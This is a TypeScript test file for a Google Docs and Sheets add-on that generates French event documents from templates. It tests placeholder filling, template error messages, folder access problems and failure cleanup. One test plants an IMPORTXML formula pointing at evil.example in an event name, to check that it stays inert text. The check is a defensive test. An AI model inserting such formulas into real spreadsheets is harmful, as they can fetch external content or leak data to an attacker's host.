/**
 * Staff templates on the emulator, running the built bundle: placeholders in
 * the body, the header and the footer, one split across formatting runs, a
 * repeated table row; the report of unknown and unclosed placeholders; a
 * template that is not a Google Doc or cannot be opened; a deleted folder;
 * an event name holding a formula.
 */
import {FakeDocument, FakeSpreadsheet, Workspace} from '../../../emulator';
import type {DocNode} from '../../../emulator/document';
import {documentTree} from '../../../emulator/document';
import {fdsTracker} from '../../fixtures/documents/data';
import {docNamed, populate, privateDist, tabValues, workspace} from './setup';

let dist = '';
beforeAll(() => {
  dist = privateDist();
});

function setup(): {ws: Workspace; ss: FakeSpreadsheet} {
  const ws = workspace(dist);
  const ss = ws.createSpreadsheet('Suivi FDS 2026');
  populate(ws, ss, fdsTracker());
  ws.open(ss);
  return {ws, ss};
}

/** A template as a person would write it in Google Docs. */
function staffTemplate(ws: Workspace): FakeDocument {
  const doc = ws.createDocument('Modèle – dossier partenaires');
  const body = doc.getBody();
  body
    .getParagraphs()[0]
    .setText(
      "Présentation de {{Nom de l'événement}} – du {{Date de début|date}}",
    );
  // "{{Sessions|nombre}}": "{{Sess" in bold, "ions|nombre}}" in italic.
  const split = body.appendParagraph(
    'Sessions : {{Sessions|nombre}} au total, budget {{Budget prévu}}.',
  );
  const text = split.editAsText();
  const start = 'Sessions : '.length;
  text.setBold(start, start + 5, true);
  text.setItalic(start + 6, start + '{{Sessions|nombre}}'.length - 1, true);
  body.appendTable([
    ['Animation', 'Date', 'Lieu'],
    [
      '{{#programme}}{{Titre}}',
      '{{Date|date}}',
      '{{Lieu}} ({{Commune|majuscules}}){{/programme}}',
    ],
    ['Total', '{{Sessions}}', ''],
  ]);
  doc
    .addHeader()
    .getParagraphs()[0]
    .setText('{{Organisation}} – {{Événement}}');
  doc
    .addFooter()
    .getParagraphs()[0]
    .setText('Document du {{Date du jour|date courte}}');
  return doc;
}

function paragraphs(node: DocNode): DocNode[] {
  return (node.children ?? []).filter(c => c.type === 'PARAGRAPH');
}

describe('staff template', () => {
  it('fills body, header and footer, a split placeholder and a repeated row', () => {
    const {ws, ss} = setup();
    const template = staffTemplate(ws);
    const url = `https://docs.google.com/document/d/${template.id}/edit`;
    const check = ws.callServer(ss, 'checkDocumentTemplate', [url]);
    expect(check.value).toEqual({
      ok: true,
      message: 'Le modèle est valide : 12 champ(s) reconnu(s).',
    });

    const r = ws.callServer(ss, 'generateDocumentFromPage', [
      'tok_template1',
      {kind: 'presentation', template: url},
    ]);
    expect(r.error).toBeNull();
    expect(r.value).toMatchObject({ok: true});
    const doc = docNamed(
      ws,
      'Présentation – Fête de la science 2026 – 2026-10-01',
    );
    expect(doc.id).not.toBe(template.id);
    const tree = documentTree(doc);
    const [header, body, footer] = tree.children!;
    expect(header.type).toBe('HEADER_SECTION');
    expect(paragraphs(header)[0].text).toBe(
      'Territoire de sciences – Fête de la science 2026',
    );
    expect(footer.type).toBe('FOOTER_SECTION');
    expect(paragraphs(footer)[0].text).toBe('Document du 01/10/2026');
    const [first, second] = paragraphs(body);
    expect(first.text).toBe(
      'Présentation de Fête de la science – du vendredi 2 octobre 2026',
    );
    expect(second.text).toBe(
      'Sessions : 4 au total, budget 8\u202f000,00\u202f€.',
    );
    // The replacement takes the formatting of the placeholder's first character (bold).
    const four = second.runs!.find(run => run.text.includes('4'))!;
    expect(four.text).toBe('4');
    expect(four.attrs.BOLD).toBe(true);
    const table = body.children!.find(c => c.type === 'TABLE')!;
    // One row per session not cancelled, in time order; the markers are gone.
    expect(table.rows).toEqual([
      ['Animation', 'Date', 'Lieu'],
      ['Visite de laboratoire', 'samedi 10 octobre 2026', ' (GRENOBLE)'],
      ['Atelier robots', 'samedi 10 octobre 2026', 'Médiathèque (VOIRON)'],
      ['Planétarium', 'samedi 10 octobre 2026', 'Cosmocité (LE PONT-DE-CLAIX)'],
      [
        'Conférence climat',
        'dimanche 11 octobre 2026',
        'Salle des fêtes (VOIRON)',
      ],
      ['Total', '4', ''],
    ]);
    // The template itself is untouched.
    const original = documentTree(template);
    expect(JSON.stringify(original)).toContain('{{#programme}}');
    expect(
      tabValues(ss, 'Documents')
        .slice(1)
        .map(row => [row[0], row[4]]),
    ).toEqual([['Présentation', 'terminé']]);
  });

  it('reports unknown names with the closest known one, and unclosed placeholders, before making anything', () => {
    const {ws, ss} = setup();
    const doc = ws.createDocument('Modèle fautif');
    doc
      .getBody()
      .getParagraphs()[0]
      .setText('Du {{Date de dbut|date}} : {{Sessions|nombr}} sessions');
    doc.getBody().appendParagraph('Contact : {{Responsable');
    doc.addFooter().getParagraphs()[0].setText('{{Lieu principale}}');
    const before = ws.documents.length;
    const check = ws.callServer(ss, 'checkDocumentTemplate', [doc.id]);
    expect(check.value).toEqual({
      ok: false,
      message:
        "Le modèle contient 4 erreur(s) ; aucun document n'a été créé. " +
        'Champ inconnu « Date de dbut » (corps du document) : vouliez-vous dire « Date de début » ? ' +
        'Format inconnu « nombr » (corps du document) : vouliez-vous dire « nombre » ? ' +
        'Champ non fermé « {{Responsable » (corps du document) : il manque les accolades fermantes. ' +
        'Champ inconnu « Lieu principale » (pied de page) : vouliez-vous dire « Lieu principal » ?',
    });
    const r = ws.callServer(ss, 'generateDocumentFromPage', [
      'tok_template2',
      {kind: 'followup', template: doc.id},
    ]);
    expect(r.value).toMatchObject({
      ok: false,
      message: expect.stringContaining('Champ inconnu « Date de dbut »'),
    });
    expect(ws.documents.length).toBe(before);
    expect(
      ws.files.filter(
        f => f.kind === 'folder' && f.currentName().includes('documents'),
      ),
    ).toHaveLength(0);
  });

  it('refuses a template that is not a Google Doc, cannot be opened, or repeats outside a table row', () => {
    const {ws, ss} = setup();
    const other = ws.createSpreadsheet('Budget 2026');
    const notDoc = ws.callServer(ss, 'generateDocumentFromPage', [
      'tok_template3',
      {kind: 'presentation', template: other.getId()},
    ]);
    // Opened with DocumentApp (the documents scope; DriveApp under
    // drive.file does not reach a pasted file): a spreadsheet does not open.
    expect(notDoc.value).toEqual({
      ok: false,
      message: `Le modèle « ${other.getId()} » ne s'ouvre pas comme document Google Docs : vérifiez l'adresse, que c'est bien un document Google Docs (pas un fichier Word), et que votre compte peut l'ouvrir. Aucun document n'a été créé.`,
    });
    const missing = ws.callServer(ss, 'checkDocumentTemplate', [
      '1xYzInconnu000000000000',
    ]);
    expect(missing.value).toEqual({
      ok: false,
      message:
        "Le modèle « 1xYzInconnu000000000000 » ne s'ouvre pas comme document Google Docs : vérifiez l'adresse, que c'est bien un document Google Docs (pas un fichier Word), et que votre compte peut l'ouvrir. Aucun document n'a été créé.",
    });
    const words = ws.callServer(ss, 'checkDocumentTemplate', ['mon modèle']);
    expect(words.value).toMatchObject({
      ok: false,
      message: expect.stringContaining("n'est ni l'adresse"),
    });
    const loose = ws.createDocument('Modèle sans tableau');
    loose
      .getBody()
      .getParagraphs()[0]
      .setText('{{#programme}}{{Titre}}{{/programme}}');
    const r = ws.callServer(ss, 'checkDocumentTemplate', [loose.id]);
    expect(r.value).toMatchObject({
      ok: false,
      message: expect.stringContaining(
        'doit se trouver dans une ligne de tableau',
      ),
    });
    expect(
      ws.documents.filter(d => d.name.startsWith('Présentation')),
    ).toHaveLength(0);
  });
});

describe('staff template for the sheets per structure', () => {
  it('fills one copy per structure with its own figures and programme rows', () => {
    const {ws, ss} = setup();
    const doc = ws.createDocument('Modèle fiche structure');
    const body = doc.getBody();
    body
      .getParagraphs()[0]
      .setText('Fiche {{Commune ou structure}} – {{Événement}}');
    body.appendParagraph('{{Sessions}} session(s), jauge {{Jauge totale}}.');
    body.appendTable([
      ['Animation', 'Commune'],
      ['{{#programme}}{{Titre}}', '{{Commune}}{{/programme}}'],
    ]);
    const r = ws.callServer(ss, 'generateDocumentFromPage', [
      'tok_fichetpl1',
      {kind: 'ficheStructure', template: doc.id},
    ]);
    expect(r.value).toMatchObject({
      ok: true,
      message: expect.stringContaining('Les 4 fiches sont prêtes'),
    });
    const casemate = docNamed(
      ws,
      'Fiche structure La Casemate – Fête de la science 2026 – 2026-10-01',
    );
    const tree = documentTree(casemate);
    const bodyNode = tree.children!.find(c => c.type === 'BODY_SECTION')!;
    // La Casemate: S1 only (S4, also theirs, is cancelled); 20 places.
    expect(
      paragraphs(bodyNode)
        .map(p => p.text)
        .slice(0, 2),
    ).toEqual([
      'Fiche La Casemate – Fête de la science 2026',
      '1 session(s), jauge 20.',
    ]);
    expect(bodyNode.children!.find(c => c.type === 'TABLE')!.rows).toEqual([
      ['Animation', 'Commune'],
      ['Atelier robots', 'Voiron'],
    ]);
    expect(
      ws.triggers.filter(tr => tr.handler === 'continueDocumentsBatch'),
    ).toHaveLength(0);
  });
});

describe('bad input', () => {
  it('a deleted documents folder: a clear message and no document', () => {
    const {ws, ss} = setup();
    ws.clickMenu(ss, 'Générer la présentation');
    const folderId = JSON.parse(
      ws.properties.document(ss.getId()).get('tds.settings')!,
    ).documentsFolderId;
    ws.files.find(f => f.id === folderId)!.trashed = true;
    const before = ws.documents.length;
    ws.clickMenu(ss, "Générer le point d'étape");
    expect(ws.ui.lastPage()!.html).toContain(
      'Le dossier Drive des documents est introuvable',
    );
    expect(ws.documents.length).toBe(before);
  });

  it('a documents folder not shared with the person generating: a clear message and no document', () => {
    const {ws, ss} = setup();
    ws.clickMenu(ss, 'Générer la présentation');
    const before = ws.documents.length;
    ws.clickMenu(ss, "Générer le point d'étape", {
      user: 'benevole@example.org',
    });
    // Under drive.file the folder another account's run created is out of
    // this account's reach, shared or not.
    expect(ws.ui.lastPage()!.html).toContain(
      'Le dossier Drive des documents est introuvable pour le module',
    );
    expect(ws.documents.length).toBe(before);
  });

  it('a folder address pasted in the settings that the add-on cannot reach: refused with a clear message, nothing saved; a picked one is accepted', () => {
    const {ws, ss} = setup();
    // Made by a person in Drive: drive.file does not reach it.
    const drive = ws.services.DriveApp as GoogleAppsScript.Drive.DriveApp;
    const folder = drive.createFolder('Dossiers partenaires 2026');
    const url = `https://drive.google.com/drive/folders/${folder.getId()}`;
    const before = ws.properties.document(ss.getId()).get('tds.settings');
    const refused = ws.callServer(ss, 'saveSettingsFromPage', [
      {documentsFolder: url, organisation: 'Autre nom'},
    ]);
    expect(refused.value).toMatchObject({
      ok: false,
      errors: {
        documentsFolder: expect.stringContaining(
          "Le module ne peut pas ouvrir ce dossier : avec ses autorisations (portée drive.file), il n'atteint que les dossiers qu'il a créés lui-même",
        ),
      },
    });
    expect(ws.properties.document(ss.getId()).get('tds.settings')).toBe(before);
    // The same folder picked in Google Picker: reachable, saved with its name.
    ws.pick(folder.getId());
    const saved = ws.callServer(ss, 'saveSettingsFromPage', [
      {documentsFolder: url},
    ]);
    expect(saved.value).toMatchObject({ok: true});
    const settings = JSON.parse(
      ws.properties.document(ss.getId()).get('tds.settings')!,
    );
    expect(settings.documentsFolderId).toBe(folder.getId());
    expect(settings.documentsFolderName).toBe('Dossiers partenaires 2026');
  });

  it('an empty programme: a clear message and no document', () => {
    const ws = workspace(dist);
    const ss = ws.createSpreadsheet('Suivi vide');
    const data = fdsTracker();
    data.sessions = [];
    populate(ws, ss, data);
    ws.open(ss);
    ws.clickMenu(ss, 'Générer la présentation');
    expect(ws.ui.lastPage()!.html).toContain('Le programme est vide');
    expect(ws.documents).toHaveLength(0);
    const fiches = ws.callServer(ss, 'generateDocumentFromPage', [
      'tok_empty001',
      {kind: 'ficheCommune'},
    ]);
    expect(fiches.value).toMatchObject({
      ok: false,
      message: expect.stringContaining('Le programme est vide'),
    });
  });

  it('an event name holding a formula is plain text in the document and never a live formula in Documents', () => {
    const {ws, ss} = setup();
    const card = ss.getSheetByName('Événement')!;
    const labels = card.getRange(1, 1, card.getLastRow(), 1).getValues();
    const row = labels.findIndex(r => r[0] === "Nom de l'événement") + 1;
    // Typed by a person as text: the apostrophe keeps Sheets from evaluating it.
    card.getRange(row, 2).setValue('\'=IMPORTXML("http://evil.example";"//a")');
    const r = ws.clickMenu(ss, 'Générer la présentation');
    expect(r.error).toBeNull();
    const doc = ws.documents.find(d => d.name.startsWith('Présentation'))!;
    expect(documentTree(doc).children![0].children![0].text).toBe(
      '=IMPORTXML("http://evil.example";"//a") 2026',
    );
    const sheet = ss.getSheetByName('Documents')!;
    const formulas = sheet
      .getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn())
      .getFormulas();
    expect(formulas.flat().filter(f => f !== '')).toEqual([]);
    expect(String(tabValues(ss, 'Documents')[1][2])).toContain('=IMPORTXML');
  });

  it('a Docs failure in the middle: the half-made document is trashed and logged "échec"', () => {
    const {ws, ss} = setup();
    // The 3rd table append of the run fails, as Google's "Service error: Documents".
    ws.failAt({
      fn: 'generatePresentation',
      service: 'Body',
      method: 'appendTable',
      callIndex: 3,
    });
    const r = ws.clickMenu(ss, 'Générer la présentation');
    expect(r.error).toBeNull();
    const name = 'Présentation – Fête de la science 2026 – 2026-10-01';
    expect(ws.ui.lastPage()!.html).toContain(
      `La génération de « ${name} » a échoué ; le document inachevé a été mis à la corbeille.`,
    );
    const doc = docNamed(ws, name);
    expect(ws.files.find(f => f.id === doc.id)!.trashed).toBe(true);
    expect(
      tabValues(ss, 'Documents')
        .slice(1)
        .map(row => [row[2], row[3], row[4], row[5]]),
    ).toEqual([
      [
        name,
        '',
        'échec',
        'Une erreur inattendue est survenue : Service error: Body',
      ],
    ]);
    // Generating again works and takes the same name (the failed one is in the trash).
    ws.clickMenu(ss, 'Générer la présentation');
    const again = ws.documents.filter(
      d => d.name === name && !ws.files.find(f => f.id === d.id)!.trashed,
    );
    expect(again).toHaveLength(1);
  });
});
